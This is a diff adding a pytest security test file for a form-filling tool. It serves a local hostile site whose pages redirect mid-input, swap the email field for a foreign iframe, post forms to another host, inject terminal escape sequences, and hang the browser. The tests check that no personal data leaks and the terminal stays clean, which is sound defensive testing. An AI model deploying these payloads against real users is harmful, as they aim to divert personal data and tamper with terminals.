@@ -1,0 +1,69 @@
+"""Pages that mean harm: nothing personal reaches another host, nothing moves the cursor."""
+
+import re
+import unicodedata
+
+import pytest
+from run.conftest import EMAIL, World
+from security.hostile_site import ESC, FORM, HostileSite
+
+pytestmark = [pytest.mark.headed, pytest.mark.slow]
+
+_STYLE = re.compile(r"\x1b\[[0-9;]*m")
+_ANYTHING = "Step 3 of 4|how shall it go on|does not recognise|Please sign in|was not recognised"
+
+REDIRECTS = (
+    FORM
+    + """<script>addEventListener('input', () => {
+  location = '{foreign}/elsewhere'; }, true);</script>"""
+)
+SWAPS = (
+    FORM
+    + """<script>addEventListener('focusin', e => { if (e.target.name === 'email') {
+  const f = document.createElement('iframe'); f.src = '{foreign}/elsewhere';
+  e.target.replaceWith(f); } }, true);</script>"""
+)
+PAGES = {
+    "frame_elsewhere": "<h1>Object</h1><iframe src='{foreign}/elsewhere' width=600 height=600></iframe>",
+    "redirects_while_filling": REDIRECTS,
+    "swaps_a_field_for_a_frame": SWAPS,
+    "posts_elsewhere": FORM.replace("/send", "{foreign}/send"),
+    "pop_ups": FORM + "<script>for (let i = 0; i < 5; i++) open('{foreign}/elsewhere');</script>",
+    "asks_for_permissions": FORM
+    + "<script>navigator.geolocation.getCurrentPosition(() => {}); Notification."
+    "requestPermission();</script>",
+    "downloads": FORM
+    + "<a id=d download=x href='data:text/plain,x'></a><script>d.click()</script>",
+    "escapes_in_words": FORM.replace("Send request", f"Send {ESC} request")
+    .replace("Email address", f"Email {ESC} address")
+    .replace("<h1>", f"<title>{ESC}</title><h1>{ESC}"),
+    "alerts_with_escapes": FORM
+    + "<script>setTimeout(() => alert('x\\x1b[2J\\u009b31m\\u202ey'), 300);</script>",
+    "labels_of_a_megabyte": FORM.replace("Email address", "Email address " + "y" * 1_000_000),
+    "fifty_thousand_controls": "<div>" + "<input>" * 50_000 + "</div>" + FORM,
+    "hangs": FORM + "<script>setTimeout(() => { for (;;); }, 200);</script>",
+}
+
+
+@pytest.mark.parametrize("page", PAGES)
+def test_nothing_leaves_and_nothing_moves(world: World, page: str) -> None:
+    pages = {"/": PAGES[page], "/elsewhere": FORM}
+    with HostileSite(pages) as site:
+        tool = world.run("facebook", "--url", site.own + "/")
+        tool.expect(_ANYTHING, timeout=100)
+        tool.interrupt()
+        assert tool.exit(timeout=60) == 130
+        assert EMAIL not in site.foreign_requests
+        assert "prenom.nom" not in site.foreign_requests
+        assert not [r for r in site.requests if "/send" in r]
+    shown = _STYLE.sub("", tool.raw)
+    bad = {c for c in shown if unicodedata.category(c) in ("Cc", "Cf", "Cs")} - set("\r\n\t")
+    assert not bad, bad
+    assert world.record()["state"] == "abandoned"
+
+
+def test_the_site_would_have_noticed(world: World) -> None:
+    with HostileSite({"/": FORM}) as site:
+        tool = world.run("facebook", "--url", site.foreign + "/")
+        tool.expect("Step 3 of 4", timeout=60)
+        assert site.foreign_requests
